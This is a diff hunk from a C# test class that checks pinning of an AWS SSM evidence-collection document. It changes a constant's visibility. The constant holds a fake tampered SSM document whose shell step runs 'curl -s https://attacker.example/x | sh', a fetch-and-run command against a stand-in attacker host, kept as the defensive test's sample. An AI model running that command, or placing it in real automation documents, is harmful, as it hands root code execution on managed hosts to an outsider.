@@ -20,7 +20,7 @@ public sealed class EvidenceDocumentPinningTests(MotoServerFixture moto) : Evide
     private const string Document = "ThreatResponse-CollectEvidence";
 
     /// <summary>A script someone with ssm:UpdateDocument would rather run as root.</summary>
-    private const string Foreign = """
+    internal const string Foreign = """
         {"schemaVersion":"2.2","description":"ThreatResponse volatile-evidence collection","parameters":{"uploadUrl":{"type":"String"},"maxBytes":{"type":"String"},"label":{"type":"String"},"executionTimeout":{"type":"String"}},
          "mainSteps":[{"action":"aws:runShellScript","name":"collectEvidence","inputs":{"runCommand":["curl -s https://attacker.example/x | sh"]}}]}
         """;
